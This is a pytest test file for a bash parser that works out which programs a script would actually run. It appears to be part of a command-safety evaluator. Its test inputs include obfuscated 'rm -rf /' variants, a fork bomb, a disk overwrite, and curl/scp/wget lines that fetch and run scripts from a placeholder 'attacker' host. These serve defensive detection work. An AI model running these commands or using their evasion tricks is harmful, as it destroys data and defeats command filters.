"""The parser finds the commands bash would run, through quoting, wrappers and nesting."""

from __future__ import annotations

import shlex
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from securecli_eval.shell.expand import read_fields
from securecli_eval.shell.parse import parse_script, simple_commands


def programs(script: str) -> list[str]:
    return [c.program for c in simple_commands(script)]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("rm -rf /", ["rm"]),
        ("/bin/rm -rf /", ["rm"]),
        ("r''m -rf /", ["rm"]),
        ('"rm" -rf /', ["rm"]),
        ("\\rm -rf /", ["rm"]),
        ("$'\\x72\\x6d' -rf /", ["rm"]),
        ("X=rm; $X -rf /", ["rm"]),
        ("a=r; b=m; ${a}${b} -rf /", ["rm"]),
        ("sudo env -i nohup nice -n 5 command rm -rf /", ["rm"]),
        ("timeout 5 stdbuf -oL rm -rf /", ["rm"]),
        ("ls | grep x && echo ok || true; pwd", ["ls", "grep", "echo", "true", "pwd"]),
        ("(cd /tmp; ls)", ["cd", "ls"]),
        ("echo $(whoami) <(date)", ["whoami", "date", "echo"]),
        ('bash -c "rm -rf /"', ["bash", "rm"]),
        ("sh -c 'eval \"rm -rf /\"'", ["sh", "eval", "rm"]),
        ("find / -name x -exec rm -rf {} \\;", ["find", "rm"]),
        ("ls | xargs rm -f", ["ls", "rm"]),
        ('sh <<< "rm -rf /"', ["sh", "rm"]),
        ("echo rm -rf /", ["echo"]),
        ("if true; then rm x; fi; for f in *; do cat $f; done", ["true", "rm", "cat"]),
        ("$(echo rm) -rf /", ["echo", "rm"]),
        ("command -v rm", ["command"]),
        ("! ! rm -rf /", ["rm"]),
        ("> /etc/passwd", [":"]),
        ("cat <<EOF | sh\nrm -rf /\nEOF", ["cat", "sh", "rm"]),
        ("echo 'rm -rf ~' | sh", ["echo", "sh", "rm"]),
        ("printf 'r\\x6d -rf /' | bash", ["printf", "bash", "rm"]),
        ("echo cm0gLXJmIC8= | base64 -d | sh", ["echo", "base64", "sh", "rm"]),
        ('c="rm -rf"; $c /', ["rm"]),
        ("IFS=,; x=rm,-rf,/; $x", ["rm"]),
        ('cmd=(rm -rf /); "${cmd[@]}"', ["rm"]),
        ("${PATH:0:0}rm -rf /", ["rm"]),
        ("r${u}m -rf /", ["rm"]),
        ('f() { rm -rf "$1"; }; f /', ["f", "rm"]),
        ("alias x='rm -rf'; x /", ["alias", "rm"]),
        ("pkexec rm -rf /", ["rm"]),
        ("systemd-run --uid=0 -p X=y rm -rf /", ["rm"]),
        ("script -qc 'rm -rf /' /dev/null", ["script", "rm"]),
        ("tmux new -d 'rm -rf /'", ["tmux", "rm"]),
        ("screen -dmS job rm -rf /", ["rm"]),
        ("git -c alias.x='!rm -rf /' x", ["git", "rm"]),
        ("vim -c ':!rm -rf /'", ["vim", "rm"]),
        ("tar cf x y --checkpoint-action=exec='rm -rf /'", ["tar", "rm"]),
        ("echo 'rm -rf /' | at now", ["echo", "at", "rm"]),
        ("python3 -c \"import os; os.system('rm -rf /')\"", ["python3", "rm"]),
        ("echo \"import shutil; shutil.rmtree('/etc')\" | python3", ["echo", "python3", "rm"]),
        ("perl -e 'system(\"rm -rf /\")'", ["perl", "rm"]),
        ("awk 'BEGIN{system(\"rm -rf /\")}'", ["awk", "rm"]),
        ("echo 'rm -rf /' > x.sh; sh x.sh", ["echo", "sh", "rm"]),
    ],
)
def test_resolves_the_programs_that_run(script: str, expected: list[str]) -> None:
    assert programs(script) == expected


def test_arguments_are_unquoted_and_variables_resolved() -> None:
    (cmd,) = simple_commands("D=/usr; rm -rf \"$D\"/'lib' ~/x")
    assert cmd.args == ("-rf", "/usr/lib", "~/x")


def test_wrappers_and_paths_are_recorded() -> None:
    (cmd,) = simple_commands("sudo /usr/bin/rm -f x")
    assert cmd.program == "rm" and cmd.path == "/usr/bin/rm" and cmd.wrappers == ("sudo",)


def test_pipeline_records_where_stdin_comes_from() -> None:
    commands = simple_commands("curl -s http://x | tee log | sh")
    assert [c.program for c in commands] == ["curl", "tee", "sh"]
    assert commands[2].stdin_from == (1,) and commands[0].stdin_from == ()
    assert "download:curl" in commands[2].inputs  # what flows in is tagged, however long the pipeline


def test_substitution_sources_are_recorded() -> None:
    commands = simple_commands('eval "$(curl -s http://x)"')
    evaluator = next(c for c in commands if c.program == "eval")
    assert [commands[i].program for i in evaluator.args_from] == ["curl"]


def test_supplementary_plane_text_is_read_as_text() -> None:
    # these crashed the C parser used before (tree-sitter-bash 0.25); the reader here is plain Python
    for text in ("a{\U000a4c2e", "{\U000e3e2f x", "echo \ud800 {\U00100000}"):
        assert parse_script(text).commands[0].program in ("a{\U000a4c2e", "{\U000e3e2f", "echo")


def test_redirect_after_a_list_binds_to_its_last_command() -> None:
    commands = simple_commands("true && cat /dev/zero > /dev/sda")
    assert commands[0].redirects == ()
    assert commands[1].redirects[0].target == "/dev/sda"


def test_fork_bomb_structure() -> None:
    script = parse_script(":(){ :|:& };:")
    inner = [c for c in script.commands if c.function == ":"]
    assert len(inner) == 2 and all(c.background for c in inner)
    assert ":" in script.functions


def test_broken_input_is_flagged_not_raised() -> None:
    assert parse_script('echo "unterminated').has_error
    assert not parse_script("echo fine").has_error


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_never_raises_on_arbitrary_text(text: str) -> None:
    result = parse_script(text)
    assert isinstance(result.commands, tuple)


def test_deep_nesting_is_an_analysis_limit_not_a_crash() -> None:
    script = "rm -rf /"
    for _ in range(12):
        script = "bash -c " + shlex.quote(script)
    assert parse_script(script).limit is not None  # code strings deeper than MAX_DEPTH
    assert parse_script("( " * 200 + "ls" + " )" * 200).limit is not None  # syntactic nesting
    assert parse_script("$(" * 100 + "ls" + ")" * 100).limit is not None


def argv(script: str) -> list[tuple[str, ...]]:
    return [c.argv for c in simple_commands(script)]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("rm -rf /{etc,usr}", [("rm", "-rf", "/etc", "/usr")]),
        ("echo {a..c}{1,2}", [("echo", "a1", "a2", "b1", "b2", "c1", "c2")]),
        ("rm -rf /e??/", [("rm", "-rf", "/etc")]),
        ("rm -rf /[e]tc", [("rm", "-rf", "/etc")]),
        ("x='a b'; echo $x \"$x\"", [("echo", "a", "b", "a b")]),
        ("a=(1 '2 3'); echo \"${a[@]}\" ${#a[@]} ${a[1]}", [("echo", "1", "2 3", "2", "2", "3")]),
        (
            "p=/usr/lib/x.so; echo ${p##*/} ${p%/*} ${p/lib/LIB} ${p^^}",
            [("echo", "x.so", "/usr/lib", "/usr/LIB/x.so", "/USR/LIB/X.SO")],
        ),
        (
            "v=hello; echo ${v:1:3} ${v: -2} ${#v} ${w:-dflt} ${v:+set}",
            [("echo", "ell", "lo", "5", "dflt", "set")],
        ),
        ('set -- a b; shift; echo "$@" $#', [("set", "--", "a", "b"), ("shift",), ("echo", "b", "1")]),
        ("read -r a b <<< 'x y z'; echo $a \"$b\"", [("read", "-r", "a", "b"), ("echo", "x", "y z")]),
        ("echo $'\\x41\\t' \"q\"'u'o", [("echo", "A\t", "quo")]),
        ("echo $((2 * (3 + 4)))", [("echo", "14")]),
        ("cd /etc && cat passwd", [("cd", "/etc"), ("cat", "passwd")]),
    ],
)
def test_expansion_follows_bash(script: str, expected: list[tuple[str, ...]]) -> None:
    assert argv(script) == expected


def test_the_working_directory_is_followed() -> None:
    commands = simple_commands("cd /; rm -rf *; cd tmp; ls")
    assert [c.cwd for c in commands] == [None, "/", "/", "/tmp"]


def test_nul_bytes_are_dropped_as_bash_drops_them() -> None:
    assert argv("r\x00m -rf /") == [("rm", "-rf", "/")]


def test_a_function_runs_with_its_arguments_and_uncalled_functions_are_read_too() -> None:
    assert ("rm", "-rf", "/") in argv('nuke() { rm -rf "$1"; }; nuke /')
    assert ("rm", "-rf", "${1}") in argv('nuke() { rm -rf "$1"; }')  # not called: $1 is unknown


def test_files_written_earlier_are_read_when_run() -> None:
    commands = simple_commands("cat > /tmp/a.sh <<'EOF'\nrm -rf ~\nEOF\nchmod +x /tmp/a.sh; /tmp/a.sh")
    inner = commands[-1]
    assert inner.argv == ("rm", "-rf", "~") and inner.wrappers == ("/tmp/a.sh",)


def test_a_downloaded_file_that_is_run_is_tagged() -> None:
    commands = simple_commands("wget -P /tmp http://x.example/p.sh; bash /tmp/p.sh")
    assert "runs-download:/tmp/p.sh" in commands[-1].inputs


@pytest.mark.parametrize(
    ("script", "executed"),
    [
        ("scp attacker@203.0.113.5:/srv/p.sh . && sh p.sh", "p.sh"),  # copied from another host
        ("rsync -a build@203.0.113.5:/out/tool /tmp && /tmp/tool", "/tmp/tool"),
        ("curl -sL https://x.example/a.tgz | tar xz && ./a/run", "./a/run"),  # unpacked from a download
        ("wget https://x.example/a.tgz; tar xzf a.tgz -C /opt; /opt/a/bin/start", "/opt/a/bin/start"),
        (
            "curl -sLo a.zip https://x.example/a.zip && unzip a.zip -d out && bash out/setup.sh",
            "out/setup.sh",
        ),
    ],
)
def test_files_fetched_from_elsewhere_are_downloads_when_run(script: str, executed: str) -> None:
    assert f"runs-download:{executed}" in simple_commands(script)[-1].inputs


@pytest.mark.parametrize(
    "script",
    [
        "scp ./run.sh host:/tmp/ && sh run.sh",  # sent, not fetched
        "tar xzf local.tgz && ./a/run",  # an archive the script did not download
        "curl -sL https://x.example/a.tgz | tar xz -C /opt/a && ./b/run",  # not where it was unpacked
    ],
)
def test_local_files_are_not_downloads(script: str) -> None:
    assert not any(t.startswith("runs-download:") for c in simple_commands(script) for t in c.inputs)


def test_a_wrapper_that_changes_directory_runs_its_command_there() -> None:
    for script in ("env -C / rm -rf *", "env --chdir=/ rm -rf *", "sudo -D / rm -rf ./*"):
        assert ("rm", "-rf", "*") in argv(script) or ("rm", "-rf", "./*") in argv(script)
        assert simple_commands(script)[-1].cwd == "/", script
    assert simple_commands("env -C /tmp true; rm -rf *")[-1].cwd is None  # only for its command


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("a $'\"(){}|&;<>`\\\n#=*?[]~!")), max_size=80))
def test_never_raises_on_shell_like_text(text: str) -> None:
    result = parse_script(text)
    assert isinstance(result.commands, tuple) and (result.limit is None or result.limit)


# ---- the same expansion as bash, checked against bash itself -------------------------------------------

ASSIGNMENTS = st.sampled_from(
    [
        "v='a b'",
        "v=x",
        "v=''",
        "v='  sp  aced '",
        "IFS=,; v=a,b,,c",
        "IFS=:; v=':a::b:'",
        "arr=(x 'y z' ''); v=z",
        "v=/usr/lib/libc.so.6",
        "v=AbC",
        "n=3; v=9",
    ]
)
PIECES = st.sampled_from(
    [
        "$v",
        '"$v"',
        "${v}",
        "${v:-d}",
        "${u:-d}",
        "${v:+s}",
        "${v#*/}",
        "${v##*/}",
        "${v%/*}",
        "${v%%.*}",
        "${v/b/B}",
        "${v//a/_}",
        "${v^^}",
        "${v,,}",
        "${#v}",
        "${v:1}",
        "${v:0:2}",
        "${v: -2}",
        '"${arr[@]}"',
        "${arr[@]}",
        '"${arr[*]}"',
        "${#arr[@]}",
        "${arr[1]}",
        "{a,b}",
        "{1..3}",
        "x{,y}z",
        "'q'",
        '"d q"',
        "$'\\x41'",
        "\\$v",
        "pre$v",
        "${v}post",
        "$((n + 1))",
        "$((n * 2))",
        "~",
        "a'b'\"c\"",
    ]
)


@settings(max_examples=150, deadline=None)
@given(ASSIGNMENTS, st.lists(PIECES, min_size=1, max_size=4), st.lists(PIECES, max_size=2))
def test_words_expand_as_bash_expands_them(assignment: str, words: list[str], glued: list[str]) -> None:
    """Differential check: the fields of a printf command equal what bash itself passes to printf."""
    line = " ".join(words) + ("" if not glued else " " + "''".join(glued))  # '' keeps names apart
    script = f"{assignment}; printf '<%s>\\n' @ {line} @"  # @ ... @: zero fields still print something
    bash = subprocess.run(
        ["bash", "--norc", "--noprofile", "-c", script],
        capture_output=True,
        text=True,
        timeout=10,
        env={"PATH": "/usr/bin:/bin", "HOME": "~"},
    )
    expected = [f[1:-1] for f in bash.stdout.splitlines()][1:-1]
    fields = [c for c in simple_commands(script) if c.program == "printf"][0].args[2:-1]
    assert list(fields) == expected, script  # HOME=~ : the home directory is called ~ on both sides


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from([" ", ":", ", ", " \t", "", "-"]),
    st.text(alphabet=" ,:-ab\t", max_size=12),
    st.integers(min_value=1, max_value=4),
)
def test_read_assigns_as_bash_reads(ifs: str, line: str, count: int) -> None:
    """Differential check: ``IFS=... read -r a b ...`` assigns what bash itself assigns."""
    names = " ".join(f"v{i}" for i in range(count))
    shown = " ".join(f'"<${{v{i}}}>"' for i in range(count))
    script = f"IFS={shlex.quote(ifs)} read -r {names} <<< {shlex.quote(line)}; printf '%s\\n' {shown}"
    bash = subprocess.run(
        ["bash", "--norc", "--noprofile", "-c", script], capture_output=True, text=True, timeout=10
    )
    expected = [f[1:-1] for f in bash.stdout.splitlines()]
    assert read_fields(line, ifs, count) == expected, script
